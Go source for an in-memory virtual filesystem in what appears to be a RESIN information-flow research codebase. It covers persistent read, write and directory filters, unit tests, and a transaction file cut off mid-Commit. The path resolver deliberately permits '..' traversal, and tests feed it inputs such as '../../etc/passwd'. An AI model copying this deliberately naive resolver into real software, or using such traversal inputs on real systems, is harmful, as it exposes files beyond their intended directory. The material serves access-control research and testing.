//     directory; the runtime invokes it whenever data flows into or out of
//     that file, or when the directory is modified (create, delete,
//     rename). Applications use these for write access control.
//
// Path resolution is deliberately naive about "..": a path like
// "/srv/files/../secrets" resolves to "/srv/secrets". That is exactly the
// behaviour that makes directory traversal attacks (§2) expressible; the
// persistent filter objects are what stop them.
package vfs

import (
	"errors"
	"fmt"
	"path"
	"sort"
	"strings"
	"sync"

	"resin/internal/core"
)

// Errors returned by filesystem operations.
var (
	ErrNotExist = errors.New("vfs: file does not exist")
	ErrExist    = errors.New("vfs: file already exists")
	ErrIsDir    = errors.New("vfs: is a directory")
	ErrNotDir   = errors.New("vfs: not a directory")
	ErrNotEmpty = errors.New("vfs: directory not empty")
)

// Extended attribute names used by the RESIN runtime.
const (
	// XattrPolicies holds the serialized policy spans of the file data.
	XattrPolicies = "user.resin.policies"
	// XattrFilter holds the serialized persistent filter object.
	XattrFilter = "user.resin.filter"
)

// DirFilter is the interface persistent directory filters implement; the
// runtime invokes it when the directory is modified. op is one of
// "create", "delete", "rename-from", "rename-to"; name is the affected
// entry; ctx is the operation context (carrying e.g. the current user).
type DirFilter interface {
	FilterDirOp(op, name string, ctx *core.Context) error
}

// node is one file or directory.
type node struct {
	dir      bool
	data     []byte
	children map[string]*node
	xattr    map[string][]byte
}

func newNode(dir bool) *node {
	n := &node{dir: dir, xattr: make(map[string][]byte)}
	if dir {
		n.children = make(map[string]*node)
	}
	return n
}

// FS is an in-memory filesystem bound to a RESIN runtime.
type FS struct {
	rt   *core.Runtime
	mu   sync.RWMutex
	root *node
	// integrity holds the commit-time assertions for transactions (tx.go).
	integrity []namedAssertion
}

// New returns an empty filesystem bound to rt. A nil runtime behaves like
// a runtime with tracking disabled.
func New(rt *core.Runtime) *FS {
	return &FS{rt: rt, root: newNode(true)}
}

// Runtime returns the runtime the filesystem is bound to.
func (fs *FS) Runtime() *core.Runtime { return fs.rt }

// Resolve normalizes a path the way the substrate's applications do:
// "." and empty segments are dropped and ".." pops a segment (never above
// the root). The result always begins with "/".
func Resolve(p string) string {
	segs := strings.Split(p, "/")
	var out []string
	for _, s := range segs {
		switch s {
		case "", ".":
		case "..":
			if len(out) > 0 {
				out = out[:len(out)-1]
			}
		default:
			out = append(out, s)
		}
	}
	return "/" + strings.Join(out, "/")
}

// lookup walks to the node for a resolved path. Caller holds fs.mu.
func (fs *FS) lookup(resolved string) (*node, error) {
	cur := fs.root
	if resolved == "/" {
		return cur, nil
	}
	for _, seg := range strings.Split(strings.TrimPrefix(resolved, "/"), "/") {
		if !cur.dir {
			return nil, ErrNotDir
		}
		next, ok := cur.children[seg]
		if !ok {
			return nil, fmt.Errorf("%w: %s", ErrNotExist, resolved)
		}
		cur = next
	}
	return cur, nil
}

// lookupParent returns the parent directory node and the final path
// segment. Caller holds fs.mu.
func (fs *FS) lookupParent(resolved string) (*node, string, error) {
	dir, base := path.Split(resolved)
	if base == "" {
		return nil, "", fmt.Errorf("vfs: %q has no base name", resolved)
	}
	parent, err := fs.lookup(Resolve(dir))
	if err != nil {
		return nil, "", err
	}
	if !parent.dir {
		return nil, "", ErrNotDir
	}
	return parent, base, nil
}

func (fs *FS) tracking() bool { return fs.rt.Tracking() }

// opContext builds the channel context for a file operation, merging the
// caller's context entries (typically the request's user) over the
// operation metadata.
func opContext(base *core.Context, p, op string) *core.Context {
	ctx := core.NewContext(core.KindFile)
	ctx.Set("path", p)
	ctx.Set("op", op)
	if base != nil {
		mergeContext(ctx, base)
	}
	return ctx
}

// mergeContext copies every key of src except "type" into dst.
func mergeContext(dst, src *core.Context) {
	// Context has no iteration API by design (it mirrors the paper's
	// opaque hash table), so we copy the conventional keys applications
	// use plus the user identity keys the substrates rely on.
	for _, k := range []string{"user", "email", "privChair", "session", "remote", "authenticated", "home"} {
		if v, ok := src.Get(k); ok {
			dst.Set(k, v)
		}
	}
}

// persistentFilter decodes the node's persistent filter object, if any.
func (fs *FS) persistentFilter(n *node) (core.Filter, error) {
	enc, ok := n.xattr[XattrFilter]
	if !ok {
		return nil, nil
	}
	return core.DecodeFilter(enc)
}

// dirFilterCheck invokes the persistent directory filter for a
// modification of dir, if one is installed and tracking is on.
func (fs *FS) dirFilterCheck(dir *node, op, name string, ctx *core.Context) error {
	if !fs.tracking() {
		return nil
	}
	f, err := fs.persistentFilter(dir)
	if err != nil {
		return err
	}
	if df, ok := f.(DirFilter); ok {
		if err := df.FilterDirOp(op, name, ctx); err != nil {
			return err
		}
	}
	return nil
}

// Mkdir creates a single directory. The parent's persistent directory
// filter is consulted with op "create".
func (fs *FS) Mkdir(p string, ctx *core.Context) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	resolved := Resolve(p)
	if resolved == "/" {
		return ErrExist
	}
	parent, base, err := fs.lookupParent(resolved)
	if err != nil {
		return err
	}
	if _, ok := parent.children[base]; ok {
		return fmt.Errorf("%w: %s", ErrExist, resolved)
	}
	if err := fs.dirFilterCheck(parent, "create", base, opContext(ctx, resolved, "mkdir")); err != nil {
		return err
	}
	parent.children[base] = newNode(true)
	return nil
}

// MkdirAll creates a directory and any missing parents (no filter checks
// on parents that already exist; each created level is checked).
func (fs *FS) MkdirAll(p string, ctx *core.Context) error {
	resolved := Resolve(p)
	if resolved == "/" {
		return nil
	}
	segs := strings.Split(strings.TrimPrefix(resolved, "/"), "/")
	cur := ""
	for _, s := range segs {
		cur += "/" + s
		err := fs.Mkdir(cur, ctx)
		if err != nil && !errors.Is(err, ErrExist) {
			return err
		}
	}
	return nil
}

// WriteFile writes data to the file at p, creating it if needed. With
// tracking enabled the write passes through the file's data-flow boundary:
//
//  1. the parent directory's persistent filter is consulted on create;
//  2. the file's persistent filter object's FilterWrite runs (write
//     access control, §3.2.3);
//  3. the default file filter serializes the data's policy spans into the
//     file's extended attributes (§3.4.1).
func (fs *FS) WriteFile(p string, data core.String, ctx *core.Context) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.writeFileLocked(p, data, ctx, false)
}

// AppendFile appends data to the file at p (creating it if needed),
// extending the persisted policy annotation.
func (fs *FS) AppendFile(p string, data core.String, ctx *core.Context) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	return fs.writeFileLocked(p, data, ctx, true)
}

func (fs *FS) writeFileLocked(p string, data core.String, ctx *core.Context, app bool) error {
	resolved := Resolve(p)
	parent, base, err := fs.lookupParent(resolved)
	if err != nil {
		return err
	}
	n, exists := parent.children[base]
	octx := opContext(ctx, resolved, "write")
	if exists && n.dir {
		return fmt.Errorf("%w: %s", ErrIsDir, resolved)
	}
	if !exists {
		if err := fs.dirFilterCheck(parent, "create", base, octx); err != nil {
			return err
		}
	}
	// Persistent file filter: write access control.
	if exists && fs.tracking() {
		f, ferr := fs.persistentFilter(n)
		if ferr != nil {
			return ferr
		}
		if wf, ok := f.(core.WriteFilter); ok {
			ch := core.NewChannel(fs.rt, core.KindFile)
			copyInto(ch.Context(), octx)
			data, err = wf.FilterWrite(ch, data, 0)
			if err != nil {
				return err
			}
		}
	}
	if app && exists && len(n.data) > 0 {
		old, derr := fs.trackedContentLocked(n)
		if derr != nil {
			return derr
		}
		data = core.Concat(old, data)
	}
	// Default file filter: serialize the policy annotation BEFORE any
	// state is mutated — a policy that cannot be persisted must never
	// leave its data behind unguarded.
	var ann []byte
	if fs.tracking() {
		var aerr error
		ann, aerr = core.EncodeSpans(data)
		if aerr != nil {
			return aerr
		}
	}
	if !exists {
		n = newNode(false)
		parent.children[base] = n
	}
	n.data = []byte(data.Raw())
	if ann == nil {
		delete(n.xattr, XattrPolicies)
	} else {
		n.xattr[XattrPolicies] = ann
	}
	return nil
}

func copyInto(dst, src *core.Context) {
	for _, k := range []string{"path", "op", "user", "email", "privChair", "session", "remote", "authenticated", "home"} {
		if v, ok := src.Get(k); ok {
			dst.Set(k, v)
		}
	}
}

// trackedContentLocked re-attaches the persisted policy annotation to the
// node's raw data. Caller holds fs.mu.
func (fs *FS) trackedContentLocked(n *node) (core.String, error) {
	if !fs.tracking() {
		return core.NewString(string(n.data)), nil
	}
	return core.DecodeSpans(string(n.data), n.xattr[XattrPolicies])
}

// ReadFile reads the file at p. With tracking enabled:
//
//  1. the persisted policy annotation is de-serialized and attached to the
//     data (default file filter, §3.4.1);
//  2. the file's persistent filter object's FilterRead runs (read access
//     control).
func (fs *FS) ReadFile(p string, ctx *core.Context) (core.String, error) {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	resolved := Resolve(p)
	n, err := fs.lookup(resolved)
	if err != nil {
		return core.String{}, err
	}
	if n.dir {
		return core.String{}, fmt.Errorf("%w: %s", ErrIsDir, resolved)
	}
	data, err := fs.trackedContentLocked(n)
	if err != nil {
		return core.String{}, err
	}
	if fs.tracking() {
		f, ferr := fs.persistentFilter(n)
		if ferr != nil {
			return core.String{}, ferr
		}
		if rf, ok := f.(core.ReadFilter); ok {
			ch := core.NewChannel(fs.rt, core.KindFile)
			copyInto(ch.Context(), opContext(ctx, resolved, "read"))
			data, err = rf.FilterRead(ch, data, 0)
			if err != nil {
				return core.String{}, err
			}
		}
	}
	return data, nil
}

// Remove deletes a file or empty directory; the parent directory's
// persistent filter is consulted with op "delete".
func (fs *FS) Remove(p string, ctx *core.Context) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	resolved := Resolve(p)
	parent, base, err := fs.lookupParent(resolved)
	if err != nil {
		return err
	}
	n, ok := parent.children[base]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotExist, resolved)
	}
	if n.dir && len(n.children) > 0 {
		return fmt.Errorf("%w: %s", ErrNotEmpty, resolved)
	}
	if err := fs.dirFilterCheck(parent, "delete", base, opContext(ctx, resolved, "remove")); err != nil {
		return err
	}
	delete(parent.children, base)
	return nil
}

// Rename moves a file or directory; both the source and destination
// directories' persistent filters are consulted.
func (fs *FS) Rename(oldp, newp string, ctx *core.Context) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	ro, rn := Resolve(oldp), Resolve(newp)
	oldParent, oldBase, err := fs.lookupParent(ro)
	if err != nil {
		return err
	}
	n, ok := oldParent.children[oldBase]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotExist, ro)
	}
	newParent, newBase, err := fs.lookupParent(rn)
	if err != nil {
		return err
	}
	if _, exists := newParent.children[newBase]; exists {
		return fmt.Errorf("%w: %s", ErrExist, rn)
	}
	octx := opContext(ctx, ro, "rename")
	if err := fs.dirFilterCheck(oldParent, "rename-from", oldBase, octx); err != nil {
		return err
	}
	if err := fs.dirFilterCheck(newParent, "rename-to", newBase, opContext(ctx, rn, "rename")); err != nil {
		return err
	}
	delete(oldParent.children, oldBase)
	newParent.children[newBase] = n
	return nil
}

// List returns the sorted names of the entries of the directory at p.
func (fs *FS) List(p string) ([]string, error) {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	n, err := fs.lookup(Resolve(p))
	if err != nil {
		return nil, err
	}
	if !n.dir {
		return nil, ErrNotDir
	}
	out := make([]string, 0, len(n.children))
	for name := range n.children {
		out = append(out, name)
	}
	sort.Strings(out)
	return out, nil
}

// FileInfo describes a file or directory.
type FileInfo struct {
	Path  string
	IsDir bool
	Size  int
}

// Stat returns metadata for the entry at p.
func (fs *FS) Stat(p string) (FileInfo, error) {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	resolved := Resolve(p)
	n, err := fs.lookup(resolved)
	if err != nil {
		return FileInfo{}, err
	}
	return FileInfo{Path: resolved, IsDir: n.dir, Size: len(n.data)}, nil
}

// Exists reports whether an entry exists at p.
func (fs *FS) Exists(p string) bool {
	_, err := fs.Stat(p)
	return err == nil
}

// SetXattr sets an extended attribute on the entry at p.
func (fs *FS) SetXattr(p, name string, value []byte) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	n, err := fs.lookup(Resolve(p))
	if err != nil {
		return err
	}
	n.xattr[name] = append([]byte(nil), value...)
	return nil
}

// GetXattr returns an extended attribute of the entry at p.
func (fs *FS) GetXattr(p, name string) ([]byte, error) {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	n, err := fs.lookup(Resolve(p))
	if err != nil {
		return nil, err
	}
	v, ok := n.xattr[name]
	if !ok {
		return nil, fmt.Errorf("vfs: no xattr %q on %s", name, p)
	}
	return append([]byte(nil), v...), nil
}

// SetPersistentFilter serializes a filter object into the entry's extended
// attributes (§3.2.3). The filter class must be registered with
// core.RegisterFilterClass. Passing nil removes the filter.
func (fs *FS) SetPersistentFilter(p string, f core.Filter) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	n, err := fs.lookup(Resolve(p))
	if err != nil {
		return err
	}
	if f == nil {
		delete(n.xattr, XattrFilter)
		return nil
	}
	enc, err := core.EncodeFilter(f)
	if err != nil {
		return err
	}
	n.xattr[XattrFilter] = enc
	return nil
}

// PersistentFilter decodes and returns the entry's persistent filter
// object, or nil if none is installed.
func (fs *FS) PersistentFilter(p string) (core.Filter, error) {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	n, err := fs.lookup(Resolve(p))
	if err != nil {
		return nil, err
	}
	return fs.persistentFilter(n)
}

// Walk visits every entry under root in lexical order, calling fn with
// the resolved path and info. fn returning an error stops the walk.
func (fs *FS) Walk(root string, fn func(p string, info FileInfo) error) error {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	resolved := Resolve(root)
	n, err := fs.lookup(resolved)
	if err != nil {
		return err
	}
	return fs.walk(resolved, n, fn)
}

func (fs *FS) walk(p string, n *node, fn func(string, FileInfo) error) error {
	if err := fn(p, FileInfo{Path: p, IsDir: n.dir, Size: len(n.data)}); err != nil {
		return err
	}
	if !n.dir {
		return nil
	}
	names := make([]string, 0, len(n.children))
	for name := range n.children {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		child := p + "/" + name
		if p == "/" {
			child = "/" + name
		}
		if err := fs.walk(child, n.children[name], fn); err != nil {
			return err
		}
	}
	return nil
}
