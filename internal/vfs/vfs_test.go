package vfs

import (
	"errors"
	"fmt"
	"testing"
	"testing/quick"

	"resin/internal/core"
)

// Test policy and filter classes.

type filePolicy struct {
	Owner string `json:"owner"`
}

func (p *filePolicy) ExportCheck(ctx *core.Context) error { return nil }

// ownerWriteFilter is a persistent file filter allowing writes only by its
// owner — the shape of the paper's write access control (§3.2.3).
type ownerWriteFilter struct {
	Owner string `json:"owner"`
}

func (f *ownerWriteFilter) FilterWrite(ch *core.Channel, data core.String, off int64) (core.String, error) {
	if u, _ := ch.Context().GetString("user"); u != f.Owner {
		return core.String{}, fmt.Errorf("vfs test: user %q may not write (owner %q)", u, f.Owner)
	}
	return data, nil
}

// ownerDirFilter is a persistent directory filter restricting
// modifications to its owner.
type ownerDirFilter struct {
	Owner string `json:"owner"`
}

func (f *ownerDirFilter) FilterDirOp(op, name string, ctx *core.Context) error {
	if u, _ := ctx.GetString("user"); u != f.Owner {
		return fmt.Errorf("vfs test: user %q may not %s %q", u, op, name)
	}
	return nil
}

func init() {
	core.RegisterPolicyClass("vfstest.FilePolicy", &filePolicy{})
	core.RegisterFilterClass("vfstest.OwnerWriteFilter", &ownerWriteFilter{})
	core.RegisterFilterClass("vfstest.OwnerDirFilter", &ownerDirFilter{})
}

func newFS(t *testing.T) *FS {
	t.Helper()
	return New(core.NewRuntime())
}

func userCtx(user string) *core.Context {
	ctx := core.NewContext(core.KindFile)
	ctx.Set("user", user)
	return ctx
}

func TestResolve(t *testing.T) {
	cases := []struct{ in, want string }{
		{"/", "/"},
		{"", "/"},
		{"/a/b", "/a/b"},
		{"a/b", "/a/b"},
		{"/a//b/", "/a/b"},
		{"/a/./b", "/a/b"},
		{"/a/b/..", "/a"},
		{"/a/b/../..", "/"},
		{"/a/b/../../..", "/"},
		{"/srv/files/../secrets/pw", "/srv/secrets/pw"},
		{"../../etc/passwd", "/etc/passwd"},
	}
	for _, c := range cases {
		if got := Resolve(c.in); got != c.want {
			t.Errorf("Resolve(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriteReadRoundTrip(t *testing.T) {
	fs := newFS(t)
	if err := fs.MkdirAll("/data/sub", nil); err != nil {
		t.Fatal(err)
	}
	if err := fs.WriteFile("/data/sub/f.txt", core.NewString("hello"), nil); err != nil {
		t.Fatal(err)
	}
	got, err := fs.ReadFile("/data/sub/f.txt", nil)
	if err != nil {
		t.Fatal(err)
	}
	if got.Raw() != "hello" || got.IsTainted() {
		t.Errorf("read = %s", got.Describe())
	}
}

func TestPersistentPoliciesRoundTrip(t *testing.T) {
	fs := newFS(t)
	p := &filePolicy{Owner: "alice"}
	data := core.Concat(core.NewString("public-"), core.NewStringPolicy("secret", p))
	if err := fs.WriteFile("/f", data, nil); err != nil {
		t.Fatal(err)
	}
	got, err := fs.ReadFile("/f", nil)
	if err != nil {
		t.Fatal(err)
	}
	if got.Raw() != "public-secret" {
		t.Fatalf("raw = %q", got.Raw())
	}
	if got.Slice(0, 7).IsTainted() {
		t.Error("untainted prefix gained a policy")
	}
	tail := got.Slice(7, got.Len())
	names := tail.Policies().Policies()
	if len(names) != 1 {
		t.Fatalf("tail policies = %d", len(names))
	}
	fp, ok := names[0].(*filePolicy)
	if !ok || fp.Owner != "alice" {
		t.Errorf("restored policy = %#v", names[0])
	}
	// Must be a fresh object, not the original: re-instantiated from the
	// class name + fields.
	if fp == p {
		t.Error("persisted policy should be re-instantiated, not aliased")
	}
}

func TestPoliciesClearedOnOverwrite(t *testing.T) {
	fs := newFS(t)
	p := &filePolicy{Owner: "a"}
	if err := fs.WriteFile("/f", core.NewStringPolicy("x", p), nil); err != nil {
		t.Fatal(err)
	}
	if err := fs.WriteFile("/f", core.NewString("clean"), nil); err != nil {
		t.Fatal(err)
	}
	got, err := fs.ReadFile("/f", nil)
	if err != nil {
		t.Fatal(err)
	}
	if got.IsTainted() {
		t.Error("overwrite with untainted data should clear the annotation")
	}
}

func TestAppendExtendsAnnotation(t *testing.T) {
	fs := newFS(t)
	p1 := &filePolicy{Owner: "p1"}
	p2 := &filePolicy{Owner: "p2"}
	if err := fs.WriteFile("/log", core.NewStringPolicy("aaa", p1), nil); err != nil {
		t.Fatal(err)
	}
	if err := fs.AppendFile("/log", core.NewStringPolicy("bbb", p2), nil); err != nil {
		t.Fatal(err)
	}
	got, err := fs.ReadFile("/log", nil)
	if err != nil {
		t.Fatal(err)
	}
	if got.Raw() != "aaabbb" {
		t.Fatalf("raw = %q", got.Raw())
	}
	firstOwner := got.PoliciesAt(0).Policies()[0].(*filePolicy).Owner
	lastOwner := got.PoliciesAt(5).Policies()[0].(*filePolicy).Owner
	if firstOwner != "p1" || lastOwner != "p2" {
		t.Errorf("owners = %q %q", firstOwner, lastOwner)
	}
}

func TestAppendCreatesFile(t *testing.T) {
	fs := newFS(t)
	if err := fs.AppendFile("/new", core.NewString("x"), nil); err != nil {
		t.Fatal(err)
	}
	got, _ := fs.ReadFile("/new", nil)
	if got.Raw() != "x" {
		t.Errorf("append-create = %q", got.Raw())
	}
}

func TestPersistentWriteFilterEnforced(t *testing.T) {
	fs := newFS(t)
	if err := fs.WriteFile("/doc", core.NewString("v1"), userCtx("alice")); err != nil {
		t.Fatal(err)
	}
	if err := fs.SetPersistentFilter("/doc", &ownerWriteFilter{Owner: "alice"}); err != nil {
		t.Fatal(err)
	}
	if err := fs.WriteFile("/doc", core.NewString("v2"), userCtx("alice")); err != nil {
		t.Fatalf("owner write: %v", err)
	}
	if err := fs.WriteFile("/doc", core.NewString("evil"), userCtx("mallory")); err == nil {
		t.Fatal("non-owner write must be vetoed")
	}
	got, _ := fs.ReadFile("/doc", nil)
	if got.Raw() != "v2" {
		t.Errorf("content after vetoed write = %q", got.Raw())
	}
}

func TestPersistentDirFilterEnforced(t *testing.T) {
	fs := newFS(t)
	if err := fs.MkdirAll("/pages/p1", nil); err != nil {
		t.Fatal(err)
	}
	if err := fs.SetPersistentFilter("/pages/p1", &ownerDirFilter{Owner: "alice"}); err != nil {
		t.Fatal(err)
	}
	// Creating a version file inside: only alice.
	if err := fs.WriteFile("/pages/p1/v1", core.NewString("rev1"), userCtx("alice")); err != nil {
		t.Fatalf("owner create: %v", err)
	}
	if err := fs.WriteFile("/pages/p1/v2", core.NewString("evil"), userCtx("mallory")); err == nil {
		t.Fatal("non-owner create must be vetoed")
	}
	if err := fs.Remove("/pages/p1/v1", userCtx("mallory")); err == nil {
		t.Fatal("non-owner delete must be vetoed")
	}
	if err := fs.Remove("/pages/p1/v1", userCtx("alice")); err != nil {
		t.Fatalf("owner delete: %v", err)
	}
}

func TestRenameChecksBothDirectories(t *testing.T) {
	fs := newFS(t)
	fs.MkdirAll("/a", nil)
	fs.MkdirAll("/b", nil)
	fs.WriteFile("/a/f", core.NewString("x"), nil)
	if err := fs.SetPersistentFilter("/b", &ownerDirFilter{Owner: "alice"}); err != nil {
		t.Fatal(err)
	}
	if err := fs.Rename("/a/f", "/b/f", userCtx("mallory")); err == nil {
		t.Fatal("rename into guarded dir must be vetoed")
	}
	if err := fs.Rename("/a/f", "/b/f", userCtx("alice")); err != nil {
		t.Fatalf("owner rename: %v", err)
	}
	if !fs.Exists("/b/f") || fs.Exists("/a/f") {
		t.Error("rename did not move the file")
	}
}

func TestTrackingDisabledSkipsFilters(t *testing.T) {
	rt := core.NewUntrackedRuntime()
	fs := New(rt)
	fs.WriteFile("/doc", core.NewString("v1"), nil)
	fs.SetPersistentFilter("/doc", &ownerWriteFilter{Owner: "alice"})
	if err := fs.WriteFile("/doc", core.NewString("v2"), userCtx("mallory")); err != nil {
		t.Fatalf("untracked runtime must skip persistent filters: %v", err)
	}
	// And no annotation is persisted.
	p := &filePolicy{Owner: "x"}
	fs.WriteFile("/t", core.NewString("s").WithPolicy(p), nil)
	if _, err := fs.GetXattr("/t", XattrPolicies); err == nil {
		t.Error("untracked write must not persist annotations")
	}
}

func TestErrors(t *testing.T) {
	fs := newFS(t)
	if _, err := fs.ReadFile("/missing", nil); !errors.Is(err, ErrNotExist) {
		t.Errorf("read missing: %v", err)
	}
	fs.MkdirAll("/d", nil)
	if _, err := fs.ReadFile("/d", nil); !errors.Is(err, ErrIsDir) {
		t.Errorf("read dir: %v", err)
	}
	if err := fs.WriteFile("/d", core.NewString("x"), nil); !errors.Is(err, ErrIsDir) {
		t.Errorf("write dir: %v", err)
	}
	if err := fs.Mkdir("/d", nil); !errors.Is(err, ErrExist) {
		t.Errorf("mkdir existing: %v", err)
	}
	if err := fs.WriteFile("/no/such/dir/f", core.NewString("x"), nil); !errors.Is(err, ErrNotExist) {
		t.Errorf("write under missing dir: %v", err)
	}
	fs.WriteFile("/d/f", core.NewString("x"), nil)
	if err := fs.Remove("/d", nil); !errors.Is(err, ErrNotEmpty) {
		t.Errorf("remove non-empty: %v", err)
	}
	if _, err := fs.List("/d/f"); !errors.Is(err, ErrNotDir) {
		t.Errorf("list file: %v", err)
	}
	if err := fs.Rename("/missing", "/x", nil); !errors.Is(err, ErrNotExist) {
		t.Errorf("rename missing: %v", err)
	}
	fs.WriteFile("/f2", core.NewString("y"), nil)
	if err := fs.Rename("/f2", "/d/f", nil); !errors.Is(err, ErrExist) {
		t.Errorf("rename onto existing: %v", err)
	}
}

func TestListAndWalk(t *testing.T) {
	fs := newFS(t)
	fs.MkdirAll("/a/b", nil)
	fs.WriteFile("/a/z.txt", core.NewString("z"), nil)
	fs.WriteFile("/a/b/c.txt", core.NewString("c"), nil)
	names, err := fs.List("/a")
	if err != nil {
		t.Fatal(err)
	}
	if len(names) != 2 || names[0] != "b" || names[1] != "z.txt" {
		t.Errorf("list = %v", names)
	}
	var visited []string
	fs.Walk("/a", func(p string, info FileInfo) error {
		visited = append(visited, p)
		return nil
	})
	want := []string{"/a", "/a/b", "/a/b/c.txt", "/a/z.txt"}
	if len(visited) != len(want) {
		t.Fatalf("walk = %v", visited)
	}
	for i := range want {
		if visited[i] != want[i] {
			t.Errorf("walk[%d] = %q, want %q", i, visited[i], want[i])
		}
	}
}

func TestXattrIsolation(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/f", core.NewString("x"), nil)
	val := []byte("attr")
	fs.SetXattr("/f", "user.custom", val)
	val[0] = 'X' // caller mutation must not leak in
	got, err := fs.GetXattr("/f", "user.custom")
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "attr" {
		t.Errorf("xattr = %q", got)
	}
	got[0] = 'Y' // returned slice mutation must not leak back
	again, _ := fs.GetXattr("/f", "user.custom")
	if string(again) != "attr" {
		t.Errorf("xattr after mutation = %q", again)
	}
}

func TestRemovePersistentFilter(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/f", core.NewString("x"), userCtx("alice"))
	fs.SetPersistentFilter("/f", &ownerWriteFilter{Owner: "alice"})
	f, err := fs.PersistentFilter("/f")
	if err != nil || f == nil {
		t.Fatalf("filter = %v, %v", f, err)
	}
	if err := fs.SetPersistentFilter("/f", nil); err != nil {
		t.Fatal(err)
	}
	f, err = fs.PersistentFilter("/f")
	if err != nil || f != nil {
		t.Errorf("after removal: %v, %v", f, err)
	}
	if err := fs.WriteFile("/f", core.NewString("y"), userCtx("mallory")); err != nil {
		t.Errorf("write after filter removal: %v", err)
	}
}

func TestStat(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/f", core.NewString("abcd"), nil)
	info, err := fs.Stat("/f")
	if err != nil {
		t.Fatal(err)
	}
	if info.IsDir || info.Size != 4 || info.Path != "/f" {
		t.Errorf("stat = %+v", info)
	}
	if !fs.Exists("/f") || fs.Exists("/g") {
		t.Error("Exists wrong")
	}
}

// Property: write/read round-trips arbitrary content bytes exactly, for
// arbitrary resolved paths.
func TestQuickWriteReadRoundTrip(t *testing.T) {
	fs := newFS(t)
	fs.MkdirAll("/q", nil)
	i := 0
	f := func(content string) bool {
		i++
		p := fmt.Sprintf("/q/f%d", i)
		if err := fs.WriteFile(p, core.NewString(content), nil); err != nil {
			return false
		}
		got, err := fs.ReadFile(p, nil)
		return err == nil && got.Raw() == content
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 80}); err != nil {
		t.Fatal(err)
	}
}

// Property: Resolve never escapes the root and is idempotent.
func TestQuickResolveProperties(t *testing.T) {
	f := func(p string) bool {
		r := Resolve(p)
		if len(r) == 0 || r[0] != '/' {
			return false
		}
		return Resolve(r) == r
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// Property: policy annotations survive arbitrary span layouts through the
// file system.
func TestQuickPersistentPolicyLayout(t *testing.T) {
	fs := newFS(t)
	i := 0
	f := func(content string, start, end uint8) bool {
		if len(content) == 0 {
			return true
		}
		i++
		p := &filePolicy{Owner: "q"}
		s := int(start) % len(content)
		e := int(end) % (len(content) + 1)
		data := core.NewString(content).WithPolicyRange(s, e, p)
		path := fmt.Sprintf("/qf%d", i)
		if err := fs.WriteFile(path, data, nil); err != nil {
			return false
		}
		got, err := fs.ReadFile(path, nil)
		if err != nil || got.Raw() != content {
			return false
		}
		for k := 0; k < len(content); k++ {
			if (got.PoliciesAt(k).Len() > 0) != (data.PoliciesAt(k).Len() > 0) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 80}); err != nil {
		t.Fatal(err)
	}
}
