package vfs

import (
	"errors"
	"fmt"
	"sync"
)

// Filesystem transactions with integrity assertions — the second half of
// the §8 proposal: "we envision using transactions to buffer database or
// file system changes, and checking a programmer-specified assertion
// before committing them."
//
// A Tx operates on a speculative copy of the tree (data, extended
// attributes, persistent filters and policy annotations included).
// Commit runs every registered integrity assertion against the
// speculative state and installs it only if all pass.

// IntegrityAssertion inspects a speculative filesystem state; returning
// an error vetoes the commit.
type IntegrityAssertion func(view *FS) error

type namedAssertion struct {
	name string
	fn   IntegrityAssertion
}

// AddIntegrityAssertion registers a named assertion checked before every
// transaction commit.
func (fs *FS) AddIntegrityAssertion(name string, fn IntegrityAssertion) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	fs.integrity = append(fs.integrity, namedAssertion{name, fn})
}

// clone deep-copies a node tree.
func (n *node) clone() *node {
	out := newNode(n.dir)
	out.data = append([]byte(nil), n.data...)
	for k, v := range n.xattr {
		out.xattr[k] = append([]byte(nil), v...)
	}
	for name, child := range n.children {
		out.children[name] = child.clone()
	}
	return out
}

// Transaction errors.
var ErrTxDone = errors.New("vfs: transaction already committed or rolled back")

// IntegrityError reports a vetoed commit.
type IntegrityError struct {
	Assertion string
	Err       error
}

func (e *IntegrityError) Error() string {
	return fmt.Sprintf("vfs: integrity assertion %q vetoed commit: %v", e.Assertion, e.Err)
}

func (e *IntegrityError) Unwrap() error { return e.Err }

// Tx is one open filesystem transaction. Its embedded *FS serves every
// ordinary operation (WriteFile, Remove, ...) against the speculative
// tree — with all the usual persistent filters still enforced.
type Tx struct {
	*FS
	base *FS
	mu   sync.Mutex
	done bool
}

// Begin opens a transaction over a speculative copy of the tree.
func (fs *FS) Begin() *Tx {
	fs.mu.RLock()
	spec := &FS{rt: fs.rt, root: fs.root.clone()}
	fs.mu.RUnlock()
	return &Tx{FS: spec, base: fs}
}

// Commit checks the integrity assertions against the speculative state
// and, if all pass, installs it as the filesystem state. Commits are
// serialized; last commit wins on conflicting paths (this models the
// paper's buffering proposal, not a concurrency-control protocol).
func (tx *Tx) Commit() error {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return ErrTxDone
	}
	tx.base.mu.Lock()
	assertions := append([]namedAssertion(nil), tx.base.integrity...)
	tx.base.mu.Unlock()
	for _, a := range assertions {
		if err := a.fn(tx.FS); err != nil {
			tx.done = true
			return &IntegrityError{Assertion: a.name, Err: err}
		}
	}
	tx.base.mu.Lock()
	tx.base.root = tx.FS.root
	tx.base.mu.Unlock()
